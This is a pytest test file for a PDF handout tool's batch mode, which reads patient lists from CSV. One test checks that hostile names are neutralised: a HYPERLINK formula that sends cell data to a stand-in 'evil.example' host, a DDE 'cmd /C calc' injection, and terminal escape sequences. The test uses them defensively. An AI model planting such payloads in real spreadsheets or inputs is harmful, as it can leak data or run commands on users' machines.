"""`pdfgen batch` reads a list as spreadsheets save it; a bad list or row is one line."""

from __future__ import annotations

import email
from email import policy
from pathlib import Path

import pytest
from batch_helpers import patients_csv, report
from conftest import files_in, pdf_text, run


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "error: list.csv: the file is empty; expected a header line with a name column "
             "(name, level, routine, plan, date, email, language)"),
        ("level,email\n2,a@example.com\n", "error: list.csv: no 'name' column; the header "
                                           "line must name it"),
        ("name,level,phone\nAna,2,555\n", "error: list.csv: unknown column(s) 'phone'; "
                                          "expected name, level, routine, plan, date, email, "
                                          "language"),
        # (no hint: "e-mail" had to be found in the list of columns)
        ("Patient Name,level,E-mail\nAna,2,a@example.com\n",
         "error: list.csv: unknown column(s) 'patient name', 'e-mail' (did you mean 'name', "
         "'email'?); expected name, level, routine, plan, date, email, language"),
        ("name,level\n", "error: list.csv: no patients below the header line"),
        # (the last column would win: Ana's handout mailed to Bob)
        ("name,level,email,Email\nAna,1,ana@example.com,bob@example.com\n",
         "error: list.csv: the column 'email' is there twice (columns 3 and 4); keep one"),
    ],
)
def test_an_unusable_list_is_exit_2_and_one_line(demo: Path, text: str, message: str) -> None:
    (demo / "list.csv").write_text(text, encoding="utf-8")
    result = run("batch", "list.csv", cwd=demo)
    assert (result.exit_code, result.stderr) == (2, message + "\n")
    assert files_in(demo / "out") == []


def test_a_list_saved_with_semicolons_is_read(demo: Path) -> None:
    (demo / "semi.csv").write_text("name;level\nAna Ruiz;2\n", encoding="utf-8-sig")
    result = run("batch", "semi.csv", cwd=demo)
    assert result.exit_code == 0, result.output
    assert (demo / "out/semi/back-pain-level-2-ana-ruiz.pdf").is_file()


def test_a_list_copied_out_of_a_spreadsheet_with_tabs_is_read(demo: Path) -> None:
    """(It was one unknown column, 'name\\tlevel\\temail'.)"""
    (demo / "tabs.csv").write_text("name\tlevel\temail\nAna Ruiz, Jr.\t2\tana@example.com\n",
                                   encoding="utf-8")
    result = run("batch", "tabs.csv", cwd=demo)
    assert result.exit_code == 0, result.output
    assert (demo / "out/tabs/back-pain-level-2-ana-ruiz-jr.pdf").is_file()


def test_the_report_is_text_in_a_spreadsheet_and_names_are_safe_to_print(demo: Path) -> None:
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)", "-2+3", "Ana \x1b]0;pwned\x07\x1b[31mRed\u202eevil"]
    rows = [{"name": n, "level": "9"} for n in names]  # every row fails: names get printed
    result = run("batch", str(patients_csv(demo / "p.csv", rows)), cwd=demo)
    assert result.exit_code == 1, result.output
    assert not any(c in result.output for c in "\x1b\x07\u202e")
    assert "row 6 (Ana \\x1b]0;pwned\\x07\\x1b[31mRed\\u202eevil): level 9" in result.stdout
    cells = [cell for line in report(demo / "out/p") for cell in line.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [line["name"] for line in report(demo / "out/p")][:4] == [
        "'" + name for name in names[:4]]
    assert not any(c in (demo / "out/p/batch-report.csv").read_text() for c in "\x1b\x07")


def test_a_list_is_read_as_rfc_4180_says(demo: Path) -> None:
    (demo / "p.csv").write_text(
        'name,level,email\n"Jane\nDoe",2,jane@example.com\n'
        "Ana\u2028Ruiz,1,ana@example.com\nBo Li,2,bo@example.com\n", encoding="utf-8")
    result = run("batch", "p.csv", "--draft", cwd=demo)
    assert result.exit_code == 0, result.output
    lines = report(demo / "out/p")
    assert [(line["row"], line["name"], line["file"]) for line in lines] == [
        ("2", "Jane Doe", "back-pain-level-2-jane-doe.pdf"),
        ("3", "Ana Ruiz", "back-pain-level-1-ana-ruiz.pdf"),
        ("4", "Bo Li", "back-pain-level-2-bo-li.pdf")]
    assert "Prepared for Jane Doe" in pdf_text(demo / "out/p/back-pain-level-2-jane-doe.pdf")
    draft = email.message_from_bytes(
        (demo / "out/p/back-pain-level-1-ana-ruiz.eml").read_bytes(), policy=policy.default)
    assert draft["To"] == "ana@example.com"


@pytest.mark.parametrize(("text", "message"), [
    ("name,level\nAna,2,extra\n",
     "error: list.csv: row 2: 3 cells but the header names 2 columns (name, level); cell 3 is "
     "'extra': put a cell that holds a comma in double quotes"),
    ("name;level\nAna;2\nBo;1;x;y\n",
     "error: list.csv: row 3: 4 cells but the header names 2 columns (name, level); cell 3 is "
     "'x': put a cell that holds a semicolon in double quotes"),
    ('name,level\nAna,2\n"Bo"x,1\n',
     'error: list.csv: row 3: not valid CSV (near line 3 of the file): a cell with a double '
     'quote must start and end with one, and a quote inside it is written twice ("")'),
])
def test_an_invalid_row_is_refused_naming_it(demo: Path, text: str, message: str) -> None:
    (demo / "list.csv").write_text(text, encoding="utf-8")
    result = run("batch", "list.csv", cwd=demo)
    assert (result.exit_code, result.stderr) == (2, message + "\n")
    assert files_in(demo / "out") == []


def test_failed_rows_are_listed_in_the_order_of_the_list(demo: Path) -> None:
    rows = [{"name": f"Patient {i}", "level": "2"} for i in range(8)]
    rows[3]["level"] = rows[4]["level"] = "9"  # row 5 fails after 3 builds, row 6 at once
    result = run("batch", str(patients_csv(demo / "p.csv", rows)), "--jobs", "2", cwd=demo)
    assert result.exit_code == 1, result.output
    failed = [line for line in result.stdout.splitlines() if line.startswith("  row ")]
    assert [line.split(" (")[0] for line in failed] == ["  row 5", "  row 6"]


def test_on_a_terminal_the_bar_counts_the_lists_rows(demo: Path) -> None:
    """On a terminal, `pdfgen batch` shows a bar of the rows done out of the list's (known
    once the API has read the list), then the same summary as in a log."""
    import os
    import pty
    import subprocess
    import sys

    rows = [{"name": f"Pat {n}", "level": "2", "date": "2026-11-24"} for n in range(3)]
    patients_csv(demo / "p.csv", rows)
    leader, follower = pty.openpty()
    env = {**os.environ, "COLUMNS": "120", "TERM": "xterm"}
    with subprocess.Popen([sys.executable, "-m", "pdfgen", "batch", "p.csv", "--jobs", "1"],
                          cwd=demo, stdin=subprocess.DEVNULL, stdout=follower,
                          stderr=subprocess.PIPE, env=env) as process:
        os.close(follower)
        shown = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:  # the process ended: the terminal is closed
                break
            if not chunk:
                break
            shown += chunk
        _, errors = process.communicate(timeout=120)
    os.close(leader)
    text = shown.decode("utf-8", "replace")
    assert process.returncode == 0, (text, errors)
    assert "Handouts" in text and "3/3" in text, text
    assert "3 built, 0 already up to date, 0 failed" in text, text
    assert "out/p/batch-report.csv" in text, text
    assert len(list((demo / "out/p").glob("*.pdf"))) == 3


def test_a_build_batch_names_the_addresses_a_mailing_would_fail_on(demo: Path) -> None:
    """(A list built and printed said nothing of 'tom.baker@example': it failed only when
    the list was mailed, days later.)"""
    (demo / "list.csv").write_text("name,level,email\nAna Ruiz,2,ana@example.com\n"
                                   "Tom Baker,2,tom.baker@example\nLi Wei,2,\n",
                                   encoding="utf-8")
    result = run("batch", "list.csv", cwd=demo)
    assert result.exit_code == 0, result.output
    notes = [line for line in result.stderr.splitlines() if "e-mail address" in line]
    assert notes == ["note: list.csv row 3 (Tom Baker): email 'tom.baker@example' is not an "
                     "e-mail address; fix it before the list is mailed"]
    assert len([f for f in files_in(demo / "out" / "list") if f.endswith(".pdf")]) == 3
